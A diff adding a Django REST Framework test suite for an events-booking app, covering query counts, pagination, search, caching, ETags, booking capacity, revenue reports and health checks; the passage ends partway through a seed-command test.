@@ -1,3 +1,1424 @@
-from django.test import TestCase
+from datetime import timedelta
+from decimal import Decimal
+import csv
+import importlib.util
+import json
+import os
+import re
+import sqlite3
+import tempfile
+from io import StringIO
+from types import ModuleType
+from unittest import mock
 
-# Create your tests here.
+from asgiref.sync import async_to_sync, iscoroutinefunction
+from django.conf import settings
+from django.contrib.auth.models import User
+from django.contrib.sessions.models import Session
+from django.core.cache import cache
+from django.core.management import CommandError, call_command
+from django.db import OperationalError, connection, connections, router, transaction
+from django.db.backends.sqlite3.base import DatabaseWrapper as SQLiteDatabaseWrapper
+from django.http import HttpResponse
+from django.test import RequestFactory, SimpleTestCase, TestCase, override_settings
+from django.test.utils import CaptureQueriesContext
+from django.urls import include, path, resolve, reverse
+from django.utils import timezone
+from rest_framework.test import APIClient
+
+from .async_views import AsyncAPIView
+from .authentication import active_users
+from .cache import CATALOGUE_WRITTEN_KEY, bump_catalogue_version
+from .config import EVENTS_PER_PAGE, NOW_RELATIVE_WINDOW
+from .instrumentation import RequestInstrumentationMiddleware, registry as metrics_registry
+from .middleware import ReplicaRoutingMiddleware
+from .models import Event, Booking
+from .routers import STICKY_COOKIE
+from .views import OrganizerRevenueExportView
+
+
+def make_event(organiser, name='Sample Event', **kwargs):
+    """Create an event with sensible defaults for tests"""
+    defaults = {
+        'description': 'A sample event used in tests',
+        'date_time': timezone.now() + timedelta(days=7),
+        'location': 'Main Hall',
+        'category': 'Tech',
+        'ticket_price': Decimal('25.00'),
+        'organiser': organiser,
+    }
+    defaults.update(kwargs)
+    return Event.objects.create(name=name, **defaults)
+
+
+def check_primary_only(test):
+    """Make /api/health/ check only the primary: a replica just mirrors the test database"""
+    patcher = mock.patch('events.health.connections', {'default': connections['default']})
+    patcher.start()
+    test.addCleanup(patcher.stop)
+
+
+# With REPLICA_DATABASE_URL set the replica only mirrors the test database,
+# so everything reads the primary unless a test enables the router itself
+@override_settings(DATABASE_ROUTERS=[])
+class EventsTestCase(TestCase):
+    """Clears the response cache so tests never see each other's responses"""
+
+    def setUp(self):
+        cache.clear()
+
+
+class EventStatsTests(EventsTestCase):
+    """Annotated event lists must not issue queries per event"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.client = APIClient()
+        self.client.force_authenticate(self.seeker)
+
+    def add_events(self, count):
+        for i in range(count):
+            event = make_event(self.organiser, name=f'Event {i}')
+            event.interested_users.add(self.seeker, self.organiser)
+            Booking.objects.create(event=event, attendee=self.seeker, amount=event.ticket_price)
+            event.adjust_counters(interested=2, bookings=1, revenue=event.ticket_price)
+
+    def count_queries(self, url):
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(url)
+        self.assertEqual(response.status_code, 200)
+        return len(ctx.captured_queries)
+
+    def test_with_stats_flags_current_users_bookings(self):
+        self.add_events(2)
+        other = User.objects.create_user('other', 'other@example.com', 'secret123')
+
+        self.assertTrue(all(event.annotated_is_booked for event in Event.objects.with_stats(self.seeker)))
+        self.assertFalse(any(event.annotated_is_booked for event in Event.objects.with_stats(other)))
+
+    def test_list_endpoints_run_constant_queries(self):
+        urls = [reverse('event-list'), reverse('user-bookmarks'), reverse('user-events')]
+        self.client.force_authenticate(self.organiser)
+        self.add_events(2)
+        small = {url: self.count_queries(url) for url in urls}
+        self.add_events(20)
+        for url in urls:
+            self.assertEqual(self.count_queries(url), small[url], url)
+
+    def test_list_reports_booking_for_current_user(self):
+        self.add_events(1)
+        response = self.client.get(reverse('event-list'))
+        event = response.data['events'][0]
+        self.assertTrue(event['is_booked_by_user'])
+        self.assertEqual(event['booking_count'], 1)
+        self.assertEqual(event['interested_count'], 2)
+        self.assertEqual(event['total_revenue'], '25.00')
+
+
+class EventCounterTests(EventsTestCase):
+    """Denormalized counters on Event follow bookings and RSVPs"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.event = make_event(self.organiser)
+        self.client = APIClient()
+        self.client.force_authenticate(self.seeker)
+
+    def assertCountersMatchSource(self):
+        event = Event.objects.with_computed_counters().get(pk=self.event.pk)
+        self.assertEqual(event.interested_count, event.computed_interested_count)
+        self.assertEqual(event.confirmed_booking_count, event.computed_confirmed_booking_count)
+        self.assertEqual(event.confirmed_revenue, event.computed_confirmed_revenue)
+        return event
+
+    def test_booking_rsvp_and_status_changes_keep_counters_in_step(self):
+        self.client.post(reverse('event-book', args=[self.event.pk]))
+        event = self.assertCountersMatchSource()
+        self.assertEqual((event.interested_count, event.confirmed_booking_count), (1, 1))
+        self.assertEqual(event.confirmed_revenue, Decimal('25.00'))
+
+        self.client.post(reverse('event-rsvp', args=[self.event.pk]))
+        self.assertEqual(self.assertCountersMatchSource().interested_count, 0)
+
+        booking = Booking.objects.get(event=self.event, attendee=self.seeker)
+        self.assertTrue(booking.set_status('cancelled'))
+        self.assertFalse(booking.set_status('cancelled'))
+        self.assertEqual(self.assertCountersMatchSource().confirmed_booking_count, 0)
+
+        self.assertTrue(booking.set_status('confirmed'))
+        self.client.post(reverse('event-rsvp', args=[self.event.pk]))
+        self.seeker.delete()
+        event = self.assertCountersMatchSource()
+        self.assertEqual((event.interested_count, event.confirmed_booking_count), (0, 0))
+
+    def test_repair_command_fixes_drift(self):
+        Booking.objects.create(event=self.event, attendee=self.seeker, amount=Decimal('40.00'))
+        self.event.interested_users.add(self.seeker)
+
+        call_command('repair_event_counters', '--dry-run', stdout=StringIO())
+        self.event.refresh_from_db()
+        self.assertEqual(self.event.confirmed_booking_count, 0)
+
+        call_command('repair_event_counters', stdout=StringIO())
+        event = self.assertCountersMatchSource()
+        self.assertEqual(event.confirmed_revenue, Decimal('40.00'))
+        self.assertEqual(event.interested_count, 1)
+
+
+class EventListPaginationTests(EventsTestCase):
+    """Cursor pagination on GET /api/events/"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.client = APIClient()
+        # Two events share each timestamp so the id tie-breaker is exercised
+        base = timezone.now()
+        for i in range(10):
+            make_event(self.organiser, name=f'Event {i}', date_time=base + timedelta(days=i // 2))
+
+    def test_walks_every_event_once_in_order(self):
+        seen = []
+        cursor = ''
+        while True:
+            response = self.client.get(reverse('event-list'), {'limit': 3, 'cursor': cursor})
+            self.assertEqual(response.status_code, 200)
+            self.assertLessEqual(response.data['count'], 3)
+            seen.extend(event['id'] for event in response.data['events'])
+            cursor = response.data['next_cursor']
+            if not cursor:
+                break
+
+        expected = list(Event.objects.order_by('-date_time', '-id').values_list('id', flat=True))
+        self.assertEqual(seen, expected)
+
+    def test_default_page_size_comes_from_config(self):
+        response = self.client.get(reverse('event-list'), {'limit': ''})
+        self.assertEqual(response.data['count'], min(EVENTS_PER_PAGE, 10))
+
+    def test_rejects_bad_cursor_and_limit(self):
+        response = self.client.get(reverse('event-list'), {'cursor': 'not-a-cursor'})
+        self.assertEqual(response.status_code, 400)
+        self.assertIn('cursor', response.data['fields'])
+
+        response = self.client.get(reverse('event-list'), {'limit': '0'})
+        self.assertEqual(response.status_code, 400)
+        self.assertIn('limit', response.data['fields'])
+
+
+class EventSearchTests(EventsTestCase):
+    """Full-text search on GET /api/events/?search="""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.client = APIClient()
+        self.in_name = make_event(self.organiser, name='Python Conference', description='Talks and workshops all day')
+        self.in_description = make_event(self.organiser, name='Weekend Meetup', description='Casual python hacking session')
+        self.unrelated = make_event(self.organiser, name='Art Walk', description='Gallery tour through the old town')
+
+    def search_ids(self, query, **params):
+        response = self.client.get(reverse('event-list'), {'search': query, **params})
+        self.assertEqual(response.status_code, 200)
+        return [event['id'] for event in response.data['events']]
+
+    def test_ranks_name_matches_first_and_matches_prefixes(self):
+        self.assertEqual(self.search_ids('pyth'), [self.in_name.id, self.in_description.id])
+
+    def test_index_follows_updates_and_deletes(self):
+        self.unrelated.name = 'Python Art Walk'
+        self.unrelated.save()
+        self.assertIn(self.unrelated.id, self.search_ids('python'))
+
+        self.in_name.delete()
+        self.assertNotIn(self.in_name.id, self.search_ids('python'))
+
+    def test_operators_in_user_input_are_harmless(self):
+        self.assertEqual(self.search_ids('"python" (* -'), [self.in_name.id, self.in_description.id])
+        self.assertEqual(self.search_ids('!!!'), [])
+
+    def test_ranked_results_paginate(self):
+        first = self.client.get(reverse('event-list'), {'search': 'python', 'limit': 1}).data
+        second = self.client.get(
+            reverse('event-list'), {'search': 'python', 'limit': 1, 'cursor': first['next_cursor']}
+        ).data
+        self.assertEqual(
+            [first['events'][0]['id'], second['events'][0]['id']],
+            [self.in_name.id, self.in_description.id],
+        )
+        self.assertIsNone(second['next_cursor'])
+
+    def test_basic_backend_selected_by_settings(self):
+        with self.settings(EVENT_SEARCH_BACKEND='basic'):
+            self.assertEqual(sorted(self.search_ids('hacking')), [self.in_description.id])
+
+    def test_rebuild_command_reindexes_events(self):
+        from django.db import connection as db
+        from .search import FTS_TABLE
+        with db.cursor() as cursor:
+            cursor.execute(f"INSERT INTO {FTS_TABLE}({FTS_TABLE}) VALUES ('delete-all')")
+        self.assertEqual(self.search_ids('python'), [])
+
+        call_command('rebuild_search_index', stdout=StringIO())
+        self.assertEqual(self.search_ids('python'), [self.in_name.id, self.in_description.id])
+
+
+class EventDateFilterTests(EventsTestCase):
+    """from/to/upcoming/past narrow the event list to a window of dates"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        now = timezone.now()
+        self.last_month = make_event(self.organiser, name='Last Month', date_time=now - timedelta(days=30))
+        self.yesterday = make_event(self.organiser, name='Yesterday', date_time=now - timedelta(days=1))
+        self.tomorrow = make_event(self.organiser, name='Tomorrow', date_time=now + timedelta(days=1))
+        self.next_month = make_event(self.organiser, name='Next Month', date_time=now + timedelta(days=30))
+
+    def names(self, **params):
+        # The list is newest first; upcoming events are soonest first
+        response = self.client.get(reverse('event-list'), params)
+        self.assertEqual(response.status_code, 200, response.data)
+        return [event['name'] for event in response.data['events']]
+
+    def test_without_filters_everything_is_listed(self):
+        self.assertEqual(self.names(), ['Next Month', 'Tomorrow', 'Yesterday', 'Last Month'])
+
+    def test_upcoming_and_past(self):
+        self.assertEqual(self.names(upcoming='true'), ['Tomorrow', 'Next Month'])
+        self.assertEqual(self.names(past='true'), ['Yesterday', 'Last Month'])
+        self.assertEqual(self.names(upcoming='false'), self.names())
+
+    def test_from_to_window(self):
+        today = timezone.now().date()
+        self.assertEqual(
+            self.names(**{'from': (today - timedelta(days=2)).isoformat(), 'to': (today + timedelta(days=2)).isoformat()}),
+            ['Tomorrow', 'Yesterday'],
+        )
+        self.assertEqual(self.names(upcoming='true', to=(today + timedelta(days=2)).isoformat()), ['Tomorrow'])
+
+    def test_upcoming_pages_with_cursor(self):
+        first = self.client.get(reverse('event-list'), {'upcoming': 'true', 'limit': 1}).data
+        self.assertEqual([event['name'] for event in first['events']], ['Tomorrow'])
+        second = self.client.get(
+            reverse('event-list'), {'upcoming': 'true', 'limit': 1, 'cursor': first['next_cursor']}
+        ).data
+        self.assertEqual([event['name'] for event in second['events']], ['Next Month'])
+        self.assertIsNone(second['next_cursor'])
+
+    def test_upcoming_search_keeps_ranked_order(self):
+        self.tomorrow.description = 'Bring your own python'
+        self.tomorrow.save()
+        self.next_month.name = 'Python Next Month'
+        self.next_month.save()
+        self.assertEqual(self.names(upcoming='true', search='python'), ['Python Next Month', 'Tomorrow'])
+
+    def test_invalid_date_filters(self):
+        response = self.client.get(reverse('event-list'), {'upcoming': 'soon', 'from': 'someday'})
+        self.assertEqual(response.status_code, 400)
+        self.assertEqual(set(response.data['fields']), {'upcoming', 'from'})
+        response = self.client.get(reverse('event-list'), {'upcoming': 'true', 'past': 'true'})
+        self.assertEqual(response.status_code, 400)
+        self.assertIn('past', response.data['fields'])
+
+
+class BookEventTests(EventsTestCase):
+    """POST /api/events/<id>/book/ is atomic and enforces capacity"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.event = make_event(self.organiser, capacity=1)
+        self.client = APIClient()
+        self.client.force_authenticate(self.seeker)
+
+    def book(self, user=None):
+        if user is not None:
+            self.client.force_authenticate(user)
+        return self.client.post(reverse('event-book', args=[self.event.pk]))
+
+    def test_duplicate_booking_is_a_conflict(self):
+        self.event.capacity = None
+        self.event.save()
+        self.assertEqual(self.book().status_code, 201)
+        response = self.book()
+        self.assertEqual(response.status_code, 409)
+        self.assertEqual(response.data['error'], 'You have already booked this event')
+        self.event.refresh_from_db()
+        self.assertEqual(self.event.confirmed_booking_count, 1)
+
+    def test_sold_out_event_writes_nothing(self):
+        self.assertEqual(self.book().status_code, 201)
+        latecomer = User.objects.create_user('late', 'late@example.com', 'secret123')
+        response = self.book(latecomer)
+        self.assertEqual(response.status_code, 409)
+        self.assertEqual(response.data['error'], 'This event is sold out')
+
+        self.assertFalse(Booking.objects.filter(attendee=latecomer).exists())
+        self.assertFalse(latecomer.interested_events.exists())
+        self.event.refresh_from_db()
+        self.assertEqual((self.event.confirmed_booking_count, self.event.interested_count), (1, 1))
+        self.assertEqual(self.event.seats_remaining, 0)
+
+    def test_cancelled_booking_can_be_rebooked(self):
+        self.assertEqual(self.book().status_code, 201)
+        Booking.objects.get(event=self.event, attendee=self.seeker).set_status('cancelled')
+        self.assertEqual(self.book().status_code, 201)
+        self.event.refresh_from_db()
+        self.assertEqual((self.event.confirmed_booking_count, self.event.interested_count), (1, 1))
+
+
+class UserBookingsViewTests(EventsTestCase):
+    """The bookings history is read in one joined query, however long it is"""
+
+    def setUp(self):
+        super().setUp()
+        organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123',
+                                             first_name='Olga', last_name='Organiser')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123',
+                                               first_name='Sam', last_name='Seeker')
+        for i in range(12):
+            make_event(organiser, name=f'Booked Event {i}').book(self.seeker)
+        self.client = APIClient()
+        self.client.force_authenticate(self.seeker)
+
+    def test_full_history_in_two_queries(self):
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(reverse('user-bookings'))
+        # The ETag fingerprint plus the bookings themselves
+        self.assertEqual(len(ctx.captured_queries), 2)
+        self.assertEqual(response.data['count'], 12)
+        first = response.data['bookings'][0]
+        self.assertEqual(first['attendee_name'], 'Sam Seeker')
+        self.assertEqual(first['organiser_name'], 'Olga Organiser')
+        self.assertEqual(first['event_name'], 'Booked Event 11')
+
+    def test_compact_representation(self):
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(reverse('user-bookings'), {'compact': 'true'})
+        self.assertEqual(len(ctx.captured_queries), 2)
+        self.assertEqual(
+            set(response.data['bookings'][0]),
+            {'id', 'event', 'event_name', 'amount', 'status', 'booking_date'},
+        )
+        self.assertEqual(self.client.get(reverse('user-bookings'), {'compact': 'maybe'}).status_code, 400)
+
+
+class OrganizerRevenueTests(EventsTestCase):
+    """GET /api/organizer/revenue/ aggregates in one query"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.organiser.profile.role = 'Organizer'
+        self.organiser.profile.save()
+        self.client = APIClient()
+        self.client.force_authenticate(self.organiser)
+
+        self.cheap = make_event(self.organiser, name='Cheap', ticket_price=Decimal('5.00'))
+        self.pricey = make_event(self.organiser, name='Pricey', ticket_price=Decimal('50.00'))
+        self.empty = make_event(self.organiser, name='Empty')
+        for i in range(3):
+            attendee = User.objects.create_user(f'attendee{i}', f'a{i}@example.com', 'secret123')
+            self.cheap.book(attendee)
+            if i < 2:
+                self.pricey.book(attendee)
+        # An old booking only counted without a date range
+        old = Booking.objects.get(event=self.pricey, attendee__username='attendee0')
+        Booking.objects.filter(pk=old.pk).update(booking_date=timezone.now() - timedelta(days=30))
+
+    def test_report_totals_and_ordering(self):
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(reverse('organizer-revenue'))
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.data['total_revenue'], 115.0)
+        self.assertEqual(response.data['total_bookings'], 5)
+        self.assertEqual([e['event_name'] for e in response.data['events']], ['Pricey', 'Cheap', 'Empty'])
+
+        report_queries = [q for q in ctx.captured_queries if 'events_event' in q['sql']]
+        self.assertEqual(len(report_queries), 1)
+
+    def test_date_range_filters_bookings(self):
+        since = (timezone.now() - timedelta(days=7)).date().isoformat()
+        response = self.client.get(reverse('organizer-revenue'), {'from': since, 'ordering': 'name'})
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.data['total_revenue'], 65.0)
+        self.assertEqual(
+            [(e['event_name'], e['bookings']) for e in response.data['events']],
+            [('Cheap', 3), ('Empty', 0), ('Pricey', 1)],
+        )
+
+    def test_rejects_bad_parameters(self):
+        response = self.client.get(reverse('organizer-revenue'), {'from': 'yesterday', 'ordering': 'price'})
+        self.assertEqual(response.status_code, 400)
+        self.assertEqual(set(response.data['fields']), {'from', 'ordering'})
+
+
+class EventRSVPTests(EventsTestCase):
+    """RSVP toggle plus idempotent PUT/DELETE on /api/events/<id>/rsvp/"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.event = make_event(self.organiser)
+        self.url = reverse('event-rsvp', args=[self.event.pk])
+        self.client = APIClient()
+        self.client.force_authenticate(self.seeker)
+
+    def test_toggle_adds_then_removes(self):
+        response = self.client.post(self.url)
+        self.assertTrue(response.data['interested'])
+        self.assertEqual(response.data['event']['interested_count'], 1)
+
+        response = self.client.post(self.url)
+        self.assertFalse(response.data['interested'])
+        self.assertEqual(response.data['event']['interested_count'], 0)
+        self.assertFalse(self.event.interested_users.exists())
+
+    def test_put_and_delete_are_idempotent(self):
+        for expected_change in (True, False):
+            response = self.client.put(self.url)
+            self.assertEqual(response.status_code, 200)
+            self.assertEqual(response.data['changed'], expected_change)
+            self.assertEqual(response.data['event']['interested_count'], 1)
+
+        for expected_change in (True, False):
+            response = self.client.delete(self.url)
+            self.assertEqual(response.data['changed'], expected_change)
+            self.assertEqual(response.data['event']['interested_count'], 0)
+
+    def test_query_count_does_not_grow_with_popularity(self):
+        def toggle_queries():
+            with CaptureQueriesContext(connection) as ctx:
+                self.client.post(self.url)
+            return len(ctx.captured_queries)
+
+        baseline = toggle_queries()
+        self.client.post(self.url)
+        for i in range(30):
+            self.event.add_interested_user(User.objects.create_user(f'fan{i}', f'f{i}@example.com', 'x'))
+        self.assertEqual(toggle_queries(), baseline)
+
+    def test_missing_event_is_404(self):
+        self.assertEqual(self.client.put(reverse('event-rsvp', args=[999])).status_code, 404)
+
+
+class EventResponseCacheTests(EventsTestCase):
+    """Anonymous event list/detail responses are cached until the catalogue changes"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.event = make_event(self.organiser)
+        self.client = APIClient()
+
+    def test_repeat_anonymous_request_is_served_from_cache(self):
+        url = reverse('event-list')
+        self.assertEqual(self.client.get(url)['X-Cache'], 'MISS')
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(url)
+        self.assertEqual(response['X-Cache'], 'HIT')
+        # Cache hits, ETag included, never touch the database
+        self.assertEqual(len(ctx.captured_queries), 0)
+        self.assertEqual(response.data['events'][0]['id'], self.event.id)
+
+    def test_authenticated_requests_bypass_cache(self):
+        self.client.force_authenticate(self.seeker)
+        url = reverse('event-detail', args=[self.event.pk])
+        self.client.get(url)
+        self.assertNotIn('X-Cache', self.client.get(url))
+
+    def test_writes_invalidate_after_commit(self):
+        url = reverse('event-detail', args=[self.event.pk])
+        self.client.get(url)
+        self.client.get(reverse('event-list'))
+
+        with self.captureOnCommitCallbacks(execute=True):
+            self.event.book(self.seeker)
+        response = self.client.get(url)
+        self.assertEqual(response['X-Cache'], 'MISS')
+        self.assertEqual(response.data['event']['booking_count'], 1)
+
+        with self.captureOnCommitCallbacks(execute=True):
+            make_event(self.organiser, name='Fresh Event')
+        response = self.client.get(reverse('event-list'))
+        self.assertEqual(response['X-Cache'], 'MISS')
+        self.assertEqual(len(response.data['events']), 2)
+
+
+    def test_upcoming_and_past_roll_over_with_the_clock(self):
+        url = reverse('event-list')
+        with mock.patch('events.cache.time') as clock:
+            clock.time.return_value = 6000.0
+            plain_etag = self.client.get(url)['ETag']
+            first = self.client.get(url, {'upcoming': 'true'})
+            self.assertEqual(first['X-Cache'], 'MISS')
+            self.assertEqual(self.client.get(url, {'upcoming': 'true'})['X-Cache'], 'HIT')
+            response = self.client.get(url, {'upcoming': 'true'}, HTTP_IF_NONE_MATCH=first['ETag'])
+            self.assertEqual(response.status_code, 304)
+
+            # An event may have started since: neither the ETag nor the entry still holds
+            clock.time.return_value = 6000.0 + NOW_RELATIVE_WINDOW
+            response = self.client.get(url, {'upcoming': 'true'}, HTTP_IF_NONE_MATCH=first['ETag'])
+            self.assertEqual(response.status_code, 200)
+            self.assertEqual(response['X-Cache'], 'MISS')
+            # Lists that do not depend on the clock keep validating
+            self.assertEqual(self.client.get(url, HTTP_IF_NONE_MATCH=plain_etag).status_code, 304)
+
+
+    @override_settings(SHARED_CACHE=False)
+    def test_without_shared_cache_responses_are_not_cached(self):
+        url = reverse('event-list')
+        first = self.client.get(url)
+        self.assertNotIn('X-Cache', first)
+        self.assertNotIn('X-Cache', self.client.get(url))
+        self.assertEqual(self.client.get(url, HTTP_IF_NONE_MATCH=first['ETag']).status_code, 304)
+
+        # Another worker's catalogue version would not move; the table fingerprint does
+        with mock.patch('events.cache.transaction.on_commit'):
+            self.event.book(self.seeker)
+        response = self.client.get(url, HTTP_IF_NONE_MATCH=first['ETag'])
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.data['events'][0]['booking_count'], 1)
+
+
+class ConditionalGetTests(EventsTestCase):
+    """ETag / Last-Modified validators on event endpoints"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.event = make_event(self.organiser)
+        self.client = APIClient()
+        self.client.force_authenticate(self.seeker)
+
+    def test_unchanged_list_is_304_without_serializing(self):
+        url = reverse('event-list')
+        etag = self.client.get(url)['ETag']
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(url, HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 304)
+        self.assertEqual(response['ETag'], etag)
+        # The catalogue version comes from the cache, not a table scan
+        self.assertEqual(len(ctx.captured_queries), 0)
+
+    def test_list_etag_follows_catalogue_writes(self):
+        url = reverse('event-list')
+        etag = self.client.get(url)['ETag']
+        with self.captureOnCommitCallbacks(execute=True):
+            self.event.book(self.seeker)
+        response = self.client.get(url, HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 200)
+        self.assertTrue(response.data['events'][0]['is_booked_by_user'])
+
+    def test_counter_changes_and_deletes_change_etag(self):
+        url = reverse('user-bookings')
+        etag = self.client.get(url)['ETag']
+        self.event.book(self.seeker)
+        booked_etag = self.client.get(url, HTTP_IF_NONE_MATCH=etag)['ETag']
+        self.assertNotEqual(booked_etag, etag)
+
+        url = reverse('user-bookmarks')
+        etag = self.client.get(url)['ETag']
+        self.event.remove_interested_user(self.seeker)
+        response = self.client.get(url, HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.data['count'], 0)
+
+    def test_etag_differs_per_user(self):
+        url = reverse('event-detail', args=[self.event.pk])
+        etag = self.client.get(url)['ETag']
+        self.client.force_authenticate(self.organiser)
+        self.assertEqual(self.client.get(url, HTTP_IF_NONE_MATCH=etag).status_code, 200)
+
+    def test_detail_honours_if_modified_since(self):
+        url = reverse('event-detail', args=[self.event.pk])
+        last_modified = self.client.get(url)['Last-Modified']
+        self.assertEqual(self.client.get(url, HTTP_IF_MODIFIED_SINCE=last_modified).status_code, 304)
+        self.assertEqual(self.client.get(reverse('event-detail', args=[999])).status_code, 404)
+
+
+@override_settings(MIDDLEWARE=['events.instrumentation.RequestInstrumentationMiddleware', *settings.MIDDLEWARE])
+class RequestInstrumentationTests(EventsTestCase):
+    """Opt-in Server-Timing headers and per-endpoint percentiles"""
+
+    def setUp(self):
+        super().setUp()
+        metrics_registry.clear()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.admin = User.objects.create_user('admin', 'admin@example.com', 'secret123', is_staff=True)
+        self.client = APIClient()
+        for i in range(3):
+            make_event(self.organiser, name=f'Event {i}')
+
+    def test_server_timing_reports_queries(self):
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(reverse('event-list'))
+        timing = response['Server-Timing']
+        self.assertIn(f'desc="{len(ctx.captured_queries)} queries"', timing)
+        self.assertRegex(timing, r'serializer;dur=[\d.]+, total;dur=[\d.]+')
+
+    def test_metrics_endpoint_reports_percentiles_per_route(self):
+        for event in Event.objects.all():
+            self.client.get(reverse('event-detail', args=[event.pk]))
+
+        self.assertEqual(self.client.get(reverse('admin-metrics')).status_code, 401)
+        self.client.force_authenticate(self.admin)
+        report = self.client.get(reverse('admin-metrics')).data
+        self.assertTrue(report['enabled'])
+        detail = report['endpoints']['GET api/events/<int:event_id>/']
+        self.assertEqual(detail['count'], 3)
+        self.assertEqual(set(detail['queries']), {'p50', 'p95', 'p99'})
+
+    def test_unresolved_paths_share_one_window(self):
+        for i in range(5):
+            self.assertEqual(self.client.get(f'/api/no-such-route-{i}/').status_code, 404)
+        endpoints = metrics_registry.summary()
+        self.assertEqual(endpoints['GET <unresolved>']['count'], 5)
+        self.assertFalse(any('no-such-route' in endpoint for endpoint in endpoints))
+
+    def test_async_list_view_reports_its_queries(self):
+        async def get_response(request):
+            return HttpResponse()
+        # Runs natively in the async stack instead of behind sync_to_async
+        self.assertTrue(iscoroutinefunction(RequestInstrumentationMiddleware(get_response)))
+
+        url = reverse('event-list')
+        sync_timing = self.client.get(url)['Server-Timing']
+        cache.clear()
+        metrics_registry.clear()
+        with override_settings(ROOT_URLCONF=async_read_urlconf()):
+            response = async_to_sync(self.async_client.get)(url)
+        self.assertEqual(response.status_code, 200)
+        # Same queries as the DRF view, counted although they ran in sync_to_async threads
+        queries = re.search(r'desc="(\d+) queries"', response['Server-Timing']).group(1)
+        self.assertIn(f'desc="{queries} queries"', sync_timing)
+        self.assertGreater(int(queries), 0)
+        self.assertEqual(metrics_registry.summary()['GET api/events/']['count'], 1)
+
+
+class HealthViewTests(EventsTestCase):
+    """Database liveness for everyone, connection pool stats for staff"""
+
+    def setUp(self):
+        super().setUp()
+        check_primary_only(self)
+        self.admin = User.objects.create_user('admin', 'admin@example.com', 'secret123', is_staff=True)
+        self.client = APIClient()
+
+    def test_anonymous_gets_status_only(self):
+        response = self.client.get(reverse('health'))
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.data, {'status': 'ok'})
+
+    def test_staff_sees_pool_stats(self):
+        self.client.force_authenticate(self.admin)
+        default = self.client.get(reverse('health')).data['databases'][0]
+        self.assertEqual((default['alias'], default['ok'], default['pooled']), ('default', True, False))
+
+        pool = mock.Mock(**{'get_stats.return_value': {'pool_size': 4, 'pool_available': 3}})
+        with mock.patch.object(connections['default'], 'pool', pool, create=True):
+            default = self.client.get(reverse('health')).data['databases'][0]
+        self.assertTrue(default['pooled'])
+        self.assertEqual(default['pool'], {'pool_size': 4, 'pool_available': 3})
+
+    def test_unreachable_database_is_503(self):
+        with mock.patch.object(connections['default'], 'cursor', side_effect=OperationalError('connection refused')):
+            response = self.client.get(reverse('health'))
+        self.assertEqual(response.status_code, 503)
+        self.assertEqual(response.data, {'status': 'error'})
+
+
+class SeedEventsCommandTests(EventsTestCase):
+    """manage.py seed_events bulk-generates a consistent dataset"""
+
+    def seed(self, *args):
+        call_command(
+            'seed_events', '--organisers', '3', '--seekers', '40', '--events', '25',
+            '--rsvps', '300', '--bookings', '100', *args, stdout=StringIO(),
+        )
+
+    def test_generates_consistent_skewed_dataset(self):
+        self.seed()
+        self.assertEqual(User.objects.filter(profile__role='Organizer').count(), 3)
+        self.assertEqual(User.objects.filter(profile__role='Seeker').count(), 40)
+        self.assertEqual(Event.objects.count(), 25)
+
+        # Every booking has a matching RSVP, as Event.book() guarantees
+        rsvps = set(Event.interested_users.through.objects.values_list('event_id', 'user_id'))
+        bookings = set(Booking.objects.values_list('event_id', 'attendee_id'))
+        self.assertTrue(bookings <= rsvps)
+        for event in Event.objects.with_computed_counters():
+            self.assertEqual(event.interested_count, event.computed_interested_count)
+            self.assertEqual(event.confirmed_booking_count, event.computed_confirmed_booking_count)
+
+        counts = sorted(Event.objects.values_list('interested_count', flat=True), reverse=True)
+        self.assertGreater(counts[0], 3 * counts[len(counts) // 2])
+
+    def test_rerun_requires_clear(self):
+        self.seed()
+        with self.assertRaises(CommandError):
+            self.seed()
+        self.seed('--clear')
+        self.assertEqual(Event.objects.count(), 25)
+
+    def test_clear_deletes_in_bulk_and_repairs_other_events(self):
+        self.seed()
+        outsider = User.objects.create_user('outsider', 'out@example.com', 'secret123')
+        kept = make_event(outsider, name='Not Seeded')
